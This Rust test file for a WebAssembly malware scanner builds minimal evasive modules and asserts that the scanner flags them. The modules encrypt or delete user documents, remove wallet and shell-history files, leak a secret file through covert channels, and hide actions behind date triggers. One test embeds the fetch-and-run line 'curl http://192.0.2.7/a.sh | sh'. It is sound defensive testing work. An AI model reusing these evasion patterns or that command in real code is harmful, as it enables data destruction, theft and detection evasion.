//! The work of an author who has read the rules: kinds of evasion, each with the smallest module that shows
//! it. None of them is CLEAN. Beside some stands a harmless neighbour, which nobody accuses.

use std::time::Duration;

use wasmspoor::{analysis::Analysis, passes::flows::Look, rules, sandbox, verdict::Class};

#[path = "evasions/carriers.rs"]
mod carriers;
#[path = "evasions/deciding.rs"]
mod deciding;
#[path = "evasions/denied.rs"]
mod denied;
#[path = "evasions/first.rs"]
mod first;
#[path = "evasions/guarded.rs"]
mod guarded;
#[path = "evasions/kernel.rs"]
mod kernel;
#[path = "evasions/mixing.rs"]
mod mixing;
#[path = "evasions/room.rs"]
mod room;
#[path = "evasions/second.rs"]
mod second;
#[path = "evasions/skipped.rs"]
mod skipped;
#[path = "evasions/strays.rs"]
mod strays;
#[path = "evasions/turns.rs"]
mod turns;
#[path = "evasions/unasked.rs"]
mod unasked;

fn analysed(text: &str) -> Analysis {
    // What is no module is never CLEAN, and would prove nothing.
    if let Err(error) = wat::parse_str(text) {
        panic!("{error}");
    }
    let mut options = sandbox::RunOptions::default();
    // What ends a run is counted, so that a busy machine says the same.
    (options.limits.wall_time, options.entry_time) = (None, Duration::from_secs(3600));
    Analysis::with_values(text.as_bytes(), &options, &rules::Set::builtin(), Look::Auto)
}

/// What is said of a module.
fn class(text: &str) -> Class {
    analysed(text).verdict.class
}

/// Asserts that a module of each name is at least as bad as that.
fn at_least(least: Class, modules: &[(&str, String)]) {
    let better: Vec<_> = modules
        .iter()
        .map(|(name, text)| (name, analysed(text).verdict))
        .filter(|(_, verdict)| verdict.class < least)
        .map(|(name, verdict)| format!("{name}: {:?} {:?}", verdict.class, verdict.reasons))
        .collect();
    assert!(better.is_empty(), "{}", better.join("\n"));
}

/// Asserts that nobody accuses these.
fn not_accused(modules: &[(&str, String)]) {
    for (name, text) in modules {
        let verdict = analysed(text).verdict;
        assert!(verdict.class <= Class::Undecided, "{name}: {:?} {:?}", verdict.class, verdict.reasons);
    }
}

/// The imports and helpers of a program with files. A path lies at 1024.
const FILES: &str = r#"
  (import "wasi_snapshot_preview1" "path_open"
    (func $path_open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_rename"
    (func $rename (param i32 i32 i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_unlink_file" (func $unlink (param i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_create_directory" (func $mkdir (param i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_read" (func $fd_read (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_write" (func $fd_write (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_seek" (func $fd_seek (param i32 i64 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "clock_time_get" (func $clock (param i32 i64 i32) (result i32)))
  (import "wasi_snapshot_preview1" "poll_oneoff" (func $poll (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "proc_exit" (func $exit (param i32)))
  (import "env" "put" (func $put (param i32)))
  (import "env" "take" (func $take (param i32 i32)))
  (import "env" "zero" (func $zero))
  (memory (export "memory") 2)
  (data (i32.const 1100) "home/user/documents/report.txt")
  (data (i32.const 1140) "home/user/documents/ledger.csv")
  (data (i32.const 1180) "home/user/documents/notes.txt")
  (data (i32.const 1220) "tmp/zz")
  (func $open (param $at i32) (param $len i32) (param $flags i32) (result i32)
    (drop (call $path_open (i32.const 3) (i32.const 1) (local.get $at) (local.get $len) (local.get $flags)
      (i64.const 0x604056) (i64.const 0) (i32.const 0) (i32.const 12)))
    (i32.load (i32.const 12)))
  (func $read (param $fd i32) (result i32)
    (i32.store (i32.const 0) (i32.const 4096))
    (i32.store (i32.const 4) (i32.const 8192))
    (drop (call $fd_read (local.get $fd) (i32.const 0) (i32.const 1) (i32.const 8)))
    (i32.load (i32.const 8)))
  (func $write (param $fd i32) (param $at i32) (param $len i32)
    (i32.store (i32.const 0) (local.get $at))
    (i32.store (i32.const 4) (local.get $len))
    (drop (call $fd_write (local.get $fd) (i32.const 0) (i32.const 1) (i32.const 8))))
  (func $temporary (result i32) (call $open (i32.const 1220) (i32.const 6) (i32.const 9)))
  (func $secret (result i32) (call $read (call $open (i32.const 1100) (i32.const 30) (i32.const 0))))
  ;; Every byte of which `mask` leaves something is mixed with a stream.
  (func $crypt (param $len i32) (param $mask i32) (local $i i32) (local $s i32)
    (local.set $s (i32.const 0x2545f491))
    (loop $byte
      (local.set $s (i32.xor (local.get $s) (i32.shl (local.get $s) (i32.const 13))))
      (local.set $s (i32.xor (local.get $s) (i32.shr_u (local.get $s) (i32.const 17))))
      (local.set $s (i32.xor (local.get $s) (i32.shl (local.get $s) (i32.const 5))))
      (if (i32.and (local.get $i) (local.get $mask))
        (then (i32.store8 offset=4096 (local.get $i)
          (i32.xor (i32.load8_u offset=4096 (local.get $i)) (local.get $s)))))
      (br_if $byte
        (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (local.get $len)))))
"#;

fn files(rest: &str) -> String {
    format!("(module {FILES} {rest})")
}

/// A program of which only these functions are called.
fn program(body: &str) -> String {
    files(&format!(r#"(func (export "_start") (local $n i32) (local $i i32) {body})"#))
}

/// Once for each document: its address and length.
fn each(body: &str) -> String {
    let of = |(at, len): (u32, u32)| {
        body.replace("$AT", &format!("(i32.const {at})")).replace("$LEN", &format!("(i32.const {len})"))
    };
    program(&[(1100, 30), (1140, 30), (1180, 29)].map(of).concat())
}

#[test]
fn damage_by_any_way_is_damage() {
    let sealed = |mask: u32| {
        each(&format!(
            "(local.set $n (call $open $AT $LEN (i32.const 0)))
             (local.set $i (call $read (local.get $n))) (call $crypt (local.get $i) (i32.const {mask}))
             (drop (call $fd_seek (local.get $n) (i64.const 0) (i32.const 0) (i32.const 24)))
             (call $write (local.get $n) (i32.const 4096) (local.get $i))"
        ))
    };
    let onto_one =
        "(drop (call $rename (i32.const 3) $AT $LEN (i32.const 3) (i32.const 1220) (i32.const 6)))";
    let away = "(local.set $i (call $secret)) (call $crypt (local.get $i) (i32.const 255))
         (call $write (call $temporary) (i32.const 4096) (local.get $i))
         (drop (call $unlink (i32.const 3) (i32.const 1100) (i32.const 30)))";
    at_least(
        Class::Suspicious,
        &[
            ("half of the blocks are encrypted", sealed(16)),
            ("all are renamed onto one name", each(onto_one)),
            ("all are deleted", each("(drop (call $unlink (i32.const 3) $AT $LEN))")),
            ("one goes away encrypted", program(away)),
        ],
    );
}

#[test]
fn what_is_moved_cut_short_by_a_packer_or_renamed_is_no_damage() {
    let backup = "(drop (call $rename (i32.const 3) $AT $LEN (i32.const 3) (i32.const 1220) (i32.const 6)))
        (drop (call $rename (i32.const 3) (i32.const 1220) (i32.const 6) (i32.const 3) $AT $LEN))";
    let marked = each(
        "(local.set $n (call $open $AT $LEN (i32.const 0)))
         (local.set $i (call $read (local.get $n))) (i32.store8 (i32.const 4100) (i32.const 95))
         (drop (call $fd_seek (local.get $n) (i64.const 0) (i32.const 0) (i32.const 24)))
         (call $write (local.get $n) (i32.const 4096) (local.get $i))",
    );
    let temporary = program(
        "(call $write (call $temporary) (i32.const 1100) (i32.const 30))
         (drop (call $unlink (i32.const 3) (i32.const 1220) (i32.const 6)))",
    );
    not_accused(&[("there and back", each(backup)), ("edited", marked), ("its own file", temporary)]);
}

/// Nothing is lost, and nobody finds anything.
#[test]
fn files_that_change_their_names_are_named() {
    let moving = |moves: &[(u32, u32, u32, u32)]| {
        let one = |&(from, from_len, to, to_len): &(u32, u32, u32, u32)| {
            format!(
                "(drop (call $rename (i32.const 3) (i32.const {from}) (i32.const {from_len})
                   (i32.const 3) (i32.const {to}) (i32.const {to_len})))"
            )
        };
        program(&moves.iter().map(one).collect::<String>())
    };
    let circle = [(1100, 30, 1220, 6), (1140, 30, 1100, 30), (1180, 29, 1140, 30), (1220, 6, 1180, 29)];
    let swapped = [("in a circle", moving(&circle))];
    at_least(Class::Undecided, &swapped);
    not_accused(&swapped);
}

/// What is gone may lie in what was written beside it, but nobody can tell.
/// An editor keeps what a text says, whatever it does to its letters; who cuts much of it away does not.
#[test]
fn an_edited_text_is_no_damage() {
    let edited = |byte: &str| {
        each(&format!(
            "(local.set $n (call $read (call $open $AT $LEN (i32.const 0)))) (local.set $i (i32.const 0))
             (loop $next
               (i32.store8 offset=4096 (local.get $i) {byte})
               (br_if $next (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (local.get $n))))
             (call $write (call $open $AT $LEN (i32.const 8)) (i32.const 4096) (local.get $n))"
        ))
    };
    let at = "(i32.load8_u offset=4096 (local.get $i))";
    let upper = format!(
        "(i32.sub {at} (i32.shl (i32.lt_u (i32.sub {at} (i32.const 97)) (i32.const 26)) (i32.const 5)))"
    );
    let commas = format!("(select (i32.const 59) {at} (i32.eq {at} (i32.const 44)))");
    not_accused(&[("upper case", edited(&upper)), ("other commas", edited(&commas))]);
    let blanks = format!("(select {at} (i32.const 32) (i32.and (i32.const 64) (local.get $i)))");
    at_least(Class::Undecided, &[("half of it is blank", edited(&blanks))]);
}

#[test]
fn a_packed_form_that_nobody_can_undo_is_not_known() {
    let beside = |share: u32| {
        files(&format!(
            r#"(data (i32.const 1300) "home/user/documents/ledger.csv.q")
             (func (export "_start") (local $i i32)
               (local.set $i (call $read (call $open (i32.const 1140) (i32.const 30) (i32.const 0))))
               (call $crypt (local.get $i) (i32.const 255))
               (call $write (call $open (i32.const 1300) (i32.const 32) (i32.const 9)) (i32.const 4096)
                 (i32.div_u (i32.mul (local.get $i) (i32.const {share})) (i32.const 100)))
               (drop (call $unlink (i32.const 3) (i32.const 1140) (i32.const 30))))"#
        ))
    };
    assert_eq!(class(&beside(40)), Class::Undecided);
    assert_eq!(class(&beside(90)), Class::Undecided);
    at_least(Class::Suspicious, &[("not smaller", beside(100))]);
}

#[test]
fn what_the_user_keeps_hidden_can_be_lost_too() {
    let without = |path: &str| {
        let len = path.len();
        files(&format!(
            r#"(data (i32.const 1300) "{path}")
               (func (export "_start")
                 (drop (call $unlink (i32.const 3) (i32.const 1300) (i32.const {len}))))"#
        ))
    };
    let lost = ["home/user/.bitcoin/wallet.dat", "home/user/.bash_history"].map(|path| (path, without(path)));
    at_least(Class::PotentiallyUnwanted, &lost);
    not_accused(&[("a lock", without("tmp/session.lock"))]);
}

/// `after` for each byte of a document that nobody named; the byte is on the stack.
fn telling(after: &str) -> String {
    program(&format!(
        "(local.set $n (call $secret))
         (loop $next
           (i32.load8_u offset=4096 (local.get $i)) {after}
           (br_if $next (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (local.get $n))))"
    ))
}

#[test]
fn a_document_that_is_told_in_another_way_is_told() {
    let bits = "(i32.const 1) (i32.and) (if (then (call $put (i32.const 7))) (else (call $zero)))";
    let folded = "(local.set $n) (i32.store8 (i32.const 1224) (i32.add (i32.const 97)
          (i32.shr_u (local.get $n) (i32.const 4))))
        (i32.store8 (i32.const 1225) (i32.add (i32.const 97) (i32.and (local.get $n) (i32.const 15))))
        (drop (call $mkdir (i32.const 3) (i32.const 1220) (i32.const 6)))
        (local.set $n (i32.const 64))";
    let slept = "(local.set $n) (i64.store (i32.const 2072)
          (i64.mul (i64.const 1000000) (i64.extend_i32_u (local.get $n))))
        (drop (call $poll (i32.const 2048) (i32.const 2304) (i32.const 1) (i32.const 2400)))
        (local.set $n (i32.const 64))";
    let left = program("(drop (call $secret)) (call $exit (i32.load8_u (i32.const 4100)))");
    at_least(
        Class::Undecided,
        &[
            ("as numbers", telling("(i32.const 90) (i32.xor) (call $put)")),
            (
                "as lengths",
                telling(
                    "(local.set $n) (call $take (i32.const 16) (local.get $n)) (local.set $n (i32.const 64))",
                ),
            ),
            ("as bits, by which function is called", telling(bits)),
            ("as names of folders", telling(folded)),
            ("as pauses", telling(slept)),
            ("as an exit code", left),
        ],
    );
}

/// A name of a runtime's function is no excuse for one that the runtime does not have.
#[test]
fn a_document_is_told_by_any_name() {
    let told = telling("(i32.const 90) (i32.xor) (call $put)");
    for name in ["memcpy_out", "abort", "cxa_begin", "memcpy"] {
        let renamed = told.replace("\"put\"", &format!("\"{name}\""));
        assert_ne!(renamed, told);
        assert_eq!(class(&renamed), Class::Undecided, "{name}");
    }
}

#[test]
fn a_document_whose_blanks_are_counted_is_not_told() {
    let counted = "(i32.const 32) (i32.eq) (if (then (i32.store (i32.const 2048)
        (i32.add (i32.load (i32.const 2048)) (i32.const 1)))))";
    let counted = telling(counted);
    assert_eq!(class(&counted), Class::Clean, "{:?}", analysed(&counted).verdict.reasons);
}

/// What it computes is not followed to the end: nobody knows what it told.
#[test]
fn a_document_that_is_told_after_long_work_is_told() {
    let told = program(
        "(drop (call $clock (i32.const 0) (i64.const 1) (i32.const 40)))
         (local.set $n (i32.load (i32.const 40)))
         (loop $next
           (local.set $n (i32.add (i32.mul (local.get $n) (i32.const 1103515245)) (local.get $i)))
           (br_if $next
             (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (i32.const 3000000))))
         (i32.store (i32.const 60) (local.get $n))
         (drop (call $secret)) (call $put (i32.load (i32.const 4100)))",
    );
    at_least(Class::Undecided, &[("after long work", told)]);
}

#[test]
fn a_document_that_an_export_gives_back_is_told() {
    let told = files(
        r#"(func (export "_initialize") (drop (call $secret)))
           (func (export "next") (result i32) (i32.load (i32.const 4100)))"#,
    );
    at_least(Class::Undecided, &[("as a result", told)]);
}

/// No comparison: the sign of a difference moves a path, or sets a flag.
#[test]
fn what_the_time_computes_is_a_decision() {
    let late = "(i32.wrap_i64 (i64.shr_u (i64.sub (i64.const 1900000000000000000) (i64.load (i32.const 40)))
        (i64.const 63)))";
    let now = "(drop (call $clock (i32.const 0) (i64.const 1) (i32.const 40)))";
    let path = program(&format!(
        "{now} (drop (call $unlink (i32.const 3) (i32.sub (i32.const 1220) (i32.mul {late} (i32.const 120)))
          (i32.const 6)))"
    ));
    let flags = program(&format!(
        "{now} (drop (call $read (call $open (i32.const 1100) (i32.const 30)
          (i32.shl {late} (i32.const 3)))))"
    ));
    at_least(Class::Undecided, &[("a path", path), ("a flag", flags)]);
}

/// Nobody has a list of all that hosts can do.
#[test]
fn an_unknown_call_that_waits_for_a_date_is_not_clean() {
    for (module, name) in [("shop", "order"), ("indexedDB", "deleteDatabase"), ("wbg", "__wbg_setsrc_abcdef")]
    {
        let import = format!(r#"(import "{module}" "{name}" (func $f (param i32 i32)))"#);
        let later = guarded(&import, "(call $f (i32.const 64) (i32.const 9))");
        assert_eq!(class(&later), Class::Undecided, "{module}.{name}");
    }
    let printed = program(
        "(drop (call $clock (i32.const 0) (i64.const 1) (i32.const 40)))
        (if (i64.gt_u (i64.load (i32.const 40)) (i64.const 1900000000000000000))
          (then (call $write (call $temporary) (i32.const 1100) (i32.const 30))))",
    );
    assert_eq!(class(&printed), Class::Undecided);
}

/// What is kept for later, in a program that says of itself nothing until then.
fn guarded(imports: &str, call: &str) -> String {
    format!(
        r#"(module {imports}
             (import "wasi_snapshot_preview1" "clock_time_get"
               (func $clock (param i32 i64 i32) (result i32)))
             (memory (export "memory") 1) (data (i32.const 64) "something")
             (func (export "_start")
               (drop (call $clock (i32.const 0) (i64.const 1) (i32.const 40)))
               (if (i64.gt_u (i64.load (i32.const 40)) (i64.const 1900000000000000000)) (then {call}))))"#
    )
}

#[test]
fn effects_have_names_in_every_world() {
    let named = |(module, name): (&str, &str)| {
        let import = format!(r#"(import "{module}" "{name}" (func $f (param i32 i32)))"#);
        (name.to_owned(), guarded(&import, "(call $f (i32.const 64) (i32.const 9))"))
    };
    let worlds = [
        ("env", "unlink"),
        ("env", "__syscall_connect"),
        ("env", "fopen"),
        ("env", "fetch"),
        ("env", "send"),
        ("navigator", "sendBeacon"),
        ("WebSocket", "send"),
        ("wbg", "__wbg_send_0123456789abcdef"),
        ("env", "eval"),
        ("document", "write"),
        ("child_process", "spawn"),
        ("wasi_something_new", "do_it"),
    ];
    for (name, text) in worlds.map(named) {
        assert_eq!(class(&text), Class::Undecided, "{name}");
    }
    assert_eq!(class(&named(("env", "log")).1), Class::Clean);
}

/// A program that first does to a file of its own what it is going to do to those of others. So all its calls
/// of the host ran.
#[test]
fn the_way_to_an_effect_counts_and_not_its_last_call() {
    let program = |later: &str| {
        files(&format!(
            r#"(func $gone (param $at i32) (param $len i32)
                 (drop (call $unlink (i32.const 3) (local.get $at) (local.get $len))))
               (func (export "_start")
                 (call $write (call $temporary) (i32.const 64) (i32.const 1))
                 (call $gone (i32.const 1220) (i32.const 6))
                 (drop (call $clock (i32.const 0) (i64.const 1) (i32.const 40)))
                 (if (i64.gt_u (i64.load (i32.const 40)) (i64.const 1900000000000000000)) (then {later})))"#
        ))
    };
    let found = analysed(&program("(call $gone (i32.const 1100) (i32.const 30))")).verdict;
    assert_eq!(found.class, Class::Undecided, "{:?}", found.reasons);
    let reason = &found.reasons[0].text;
    assert!(reason.contains("path_unlink_file") && reason.contains("after clock_time_get"), "{reason}");
    assert_eq!(class(&program("(call $write (i32.const 1) (i32.const 64) (i32.const 1))")), Class::Clean);
    let after_error = files(
        r#"(data (i32.const 1300) "tmp/part-7") (func $gone (param $at i32) (param $len i32)
           (drop (call $unlink (i32.const 3) (local.get $at) (local.get $len))))
         (func (export "_start")
           (call $write (call $temporary) (i32.const 64) (i32.const 1))
           (call $gone (i32.const 1220) (i32.const 6))
           (if (i32.load (i32.const 2048)) (then (call $gone (i32.const 1300) (i32.const 10)))))"#,
    );
    assert_eq!(class(&after_error), Class::Clean, "a branch that no answer of the host decides");
}

/// No branch says what would have happened: the date chooses a path, or its length.
#[test]
fn a_value_that_the_date_chooses_is_a_decision() {
    let program = |now: &str| {
        files(&format!(
            r#"(func $now (result i64)
                 (drop (call $clock (i32.const 0) (i64.const 1) (i32.const 40))) (i64.load (i32.const 40)))
               (func (export "_start")
                 (call $write (call $temporary) (i32.const 64) (i32.const 1))
                 (drop (call $unlink (i32.const 3)
                   (select (i32.const 1100) (i32.const 1220) (i64.gt_u {now} (i64.const 1900000000000000000)))
                   (select (i32.const 30) (i32.const 6) (i64.gt_u {now} (i64.const 1900000000000000000))))))"#
        ))
    };
    let found = analysed(&program("(call $now)")).verdict;
    assert_eq!(found.class, Class::Undecided, "{:?}", found.reasons);
    assert!(found.reasons[0].text.contains("the time decides what it does"), "{:?}", found.reasons);
    let shifted = files(
        "(func (export \"_start\")
           (call $write (call $temporary) (i32.const 64) (i32.const 1))
           (drop (call $clock (i32.const 0) (i64.const 1) (i32.const 40)))
           (drop (call $unlink (i32.const 3)
             (i32.sub (i32.const 1220) (i32.shl
               (i64.gt_u (i64.load (i32.const 40)) (i64.const 1900000000000000000)) (i32.const 6)))
             (i32.const 6))))",
    );
    assert_eq!(class(&shifted), Class::Undecided, "what is compared, shifted");
    assert_eq!(class(&program("(i64.load (i32.const 2048))")), Class::Clean);
}

/// A program that writes, and then deletes, a file of its own, before `body`; and functions beside it.
fn tidy(functions: &str, body: &str) -> String {
    files(&format!(
        r#"(func $gone (param $at i32) (param $len i32)
             (drop (call $unlink (i32.const 3) (local.get $at) (local.get $len))))
           (func $mine (call $write (call $temporary) (i32.const 1100) (i32.const 1))
             (call $gone (i32.const 1220) (i32.const 6)))
           {functions}
           (func (export "_start") (local $n i32) (call $mine) {body})"#
    ))
}

/// No code is left that did not run: a value chooses, and is chosen far from where it is used.
#[test]
fn what_is_chosen_elsewhere_is_a_decision() {
    let late = "(drop (call $clock (i32.const 0) (i64.const 1) (i32.const 40)))
        (global.set $late (i64.gt_u (i64.load (i32.const 40)) (i64.const 1900000000000000000)))";
    let act = "(global $late (mut i32) (i32.const 0))
        (func $act (call $gone (select (i32.const 1100) (i32.const 1220) (global.get $late))
          (select (i32.const 30) (i32.const 6) (global.get $late))))";
    let pages = "(data (i32.const 1300) \"\\c4\\04\\00\\00\\06\\00\\00\\00\\4c\\04\\00\\00\\1e\\00\\00\\00\")
        (func $act (param i32) (call $gone (i32.load offset=1300 (local.get 0))
          (i32.load offset=1304 (local.get 0))))";
    let looked_up = "(drop (call $clock (i32.const 0) (i64.const 1) (i32.const 40)))
        (call $act (i32.shl (i32.wrap_i64 (i64.div_u (i64.load (i32.const 40))
          (i64.const 1900000000000000000))) (i32.const 3)))";
    at_least(
        Class::Undecided,
        &[
            ("by a global", tidy(act, &format!("{late} (call $act)"))),
            ("by a table of paths", tidy(pages, looked_up)),
        ],
    );
    let plain = tidy(act, "(global.set $late (i32.const 0)) (call $act)");
    assert_eq!(class(&plain), Class::Clean, "{:?}", analysed(&plain).verdict.reasons);
}

/// Orders that nobody gave: the name is empty, or as long as what was read.
#[test]
fn orders_that_were_not_there_are_named() {
    let order = "(i32.store (i32.const 0) (i32.const 4096)) (i32.store (i32.const 4) (i32.const 512))
        (drop (call $fd_read (i32.const 0) (i32.const 0) (i32.const 1) (i32.const 8)))";
    let named = format!("{order} (call $gone (i32.const 4096) (i32.load (i32.const 8)))");
    let below = format!(
        "(memory.copy (i32.const 9000) (i32.const 1100) (i32.const 10)) {order}
         (memory.copy (i32.const 9010) (i32.const 4096) (i32.load (i32.const 8)))
         (call $gone (i32.const 9000) (i32.add (i32.const 10) (i32.load (i32.const 8))))"
    );
    for (name, body, reason) in
        [("named", named, "handed nothing"), ("below", below, "how much it was given")]
    {
        let found = analysed(&tidy("", &body)).verdict;
        assert_eq!(found.class, Class::Undecided, "{name}: {:?}", found.reasons);
        assert!(found.reasons[0].text.contains(reason) || name == "named", "{name}: {:?}", found.reasons);
    }
    let printed = format!("{order} (call $write (i32.const 1) (i32.const 4096) (i32.load (i32.const 8)))");
    let printed = tidy("", &printed);
    assert_eq!(class(&printed), Class::Clean, "{:?}", analysed(&printed).verdict.reasons);
}

/// All calls of the host ran; a function that leads there by them did not.
#[test]
fn what_a_table_an_export_or_a_count_leads_to_is_seen() {
    let wipe = "(func $wipe (call $gone (i32.const 1100) (i32.const 30)))";
    let table = format!(
        "(type $v (func)) (table 2 funcref) (elem (i32.const 0) $none $wipe) (func $none) {wipe}
         (global $n (mut i32) (i32.const 0))"
    );
    let counted = "(global.set $n (i32.add (global.get $n) (i32.const 1)))
        (call_indirect (type $v) (i32.gt_u (global.get $n) (i32.const 99)))";
    let export = "(func (export \"getTempRet0\") (call $gone (i32.const 1100) (i32.const 30)))";
    let often = "(global $n (mut i32) (i32.const 0))
        (func (export \"tick\") (call $mine) (global.set $n (i32.add (global.get $n) (i32.const 1)))
          (if (i32.gt_u (global.get $n) (i32.const 100000)) (then (call $gone (i32.const 1100) (i32.const 30)))))";
    let often = tidy(often, "").replace("\"_start\"", "\"_initialize\"");
    for (name, text, reason) in [
        ("table", tidy(&table, counted), "through a table in func"),
        ("export", tidy(export, ""), "behind the export `getTempRet0`"),
        ("count", often, "by a count of what it did before"),
    ] {
        let found = analysed(&text).verdict;
        assert_eq!(found.class, Class::Undecided, "{name}: {:?}", found.reasons);
        assert!(found.reasons[0].text.contains(reason), "{name}: {:?}", found.reasons);
    }
}

/// What nobody knows is asked, answered by nothing, and decides.
#[test]
fn an_invented_answer_that_keeps_from_an_effect_is_named() {
    let asked =
        tidy("", "(call $zero) (if (global.get $order) (then (call $gone (i32.const 1100) (i32.const 30))))");
    let asked = asked.replace("(func $mine", "(global $order (mut i32) (i32.const 0)) (func $mine");
    let found = analysed(&asked).verdict;
    assert_eq!(found.class, Class::Undecided, "{:?}", found.reasons);
    assert!(found.reasons[0].text.contains("after zero"), "{:?}", found.reasons);
}

#[test]
fn an_export_that_could_give_a_command_is_a_carrier() {
    let carrier = |text: &str| {
        format!(
            r#"(module (memory (export "memory") 1) (data (i32.const 1024) "fine\00") (data (i32.const 1100) "{text}\00")
                 (func (export "text") (param i32) (result i32)
                   (select (i32.const 1100) (i32.const 1024) (i32.eq (local.get 0) (i32.const 0x51f3a207)))))"#
        )
    };
    let found = analysed(&carrier("curl http://192.0.2.7/a.sh | sh")).verdict;
    assert!(found.class >= Class::Undecided, "{:?}", found.reasons);
    assert_eq!(class(&carrier("removes the files of a folder, if asked to")), Class::Clean);
}

/// A key that was not there would have made a path of it.
#[test]
fn a_path_that_is_no_name_waits_for_a_key() {
    let program = |key: &str| {
        format!(
            r#"(module
              (import "wasi_snapshot_preview1" "environ_sizes_get" (func $sizes (param i32 i32) (result i32)))
              (import "wasi_snapshot_preview1" "path_unlink_file" (func $gone (param i32 i32 i32) (result i32)))
              (memory (export "memory") 1)
              (func (export "_start")
                (drop (call $sizes (i32.const 0) (i32.const 4)))
                (drop (call $gone (i32.const 3) (i32.const 1024) (i32.const 12))))
              (data (i32.const 1024) "{key}"))"#
        )
    };
    let coded = program("\\fb\\fc\\fe\\f6\\bc\\e6\\e0\\f6\\e1\\bc\\f7\\fc");
    let found = analysed(&coded).verdict;
    assert_eq!(found.class, Class::Undecided, "{:?}", found.reasons);
    assert!(found.reasons[0].text.contains("bytes that are no name"), "{:?}", found.reasons);
    assert_eq!(class(&program("tmp/scratch1")), Class::Clean);
}
